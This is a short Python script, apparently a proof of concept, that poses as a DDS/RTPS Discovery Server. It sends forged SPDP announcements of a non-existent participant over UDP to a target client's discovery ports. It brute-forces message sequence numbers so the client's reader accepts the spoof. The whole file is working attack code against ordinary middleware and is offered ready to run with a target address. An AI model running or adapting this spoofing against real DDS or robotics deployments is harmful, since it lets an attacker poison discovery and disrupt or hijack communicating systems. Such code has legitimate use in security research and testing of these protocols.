# SPDX-License-Identifier: Apache-2.0
"""Speaks as the first Discovery Server, whoever that is: tells of a participant that does not exist.

Argument: the address of the client, which listens at the first ports of domain 0. What is told goes through the
client's reader of the server, whose next number is not known: many are tried.
"""

import socket
import struct
import sys

from forged_announcement import SPDP_READER, SPDP_WRITER, data, locator, parameter

SERVER = bytes.fromhex("4453005f4550524f53494d41")
FORGED = b"\x01\x0fforged\0\0\0\1"
NUMBERS = range(1, 60)


def record(address):
    payload = b"\x00\x03\x00\x00"
    payload += parameter(0x0015, b"\x02\x03\x00\x00") + parameter(0x0016, b"\x01\x0f\x00\x00")
    payload += parameter(0x0050, FORGED + b"\x00\x00\x01\xc1")
    payload += locator(0x0032, address, 7999) + locator(0x0031, address, 7999)
    payload += parameter(0x0002, struct.pack("<iI", 100, 0))
    return payload + parameter(0x0058, struct.pack("<I", 0xc3f)) + parameter(1, b"")


def main():
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for seq in NUMBERS:
        message = b"RTPS\x02\x03\x01\x0f" + SERVER
        message += data(SPDP_READER, SPDP_WRITER, seq, record(sys.argv[1]))
        for port in (7410, 7412, 7414):
            forger.sendto(message, (sys.argv[1], port))


if __name__ == "__main__":
    main()
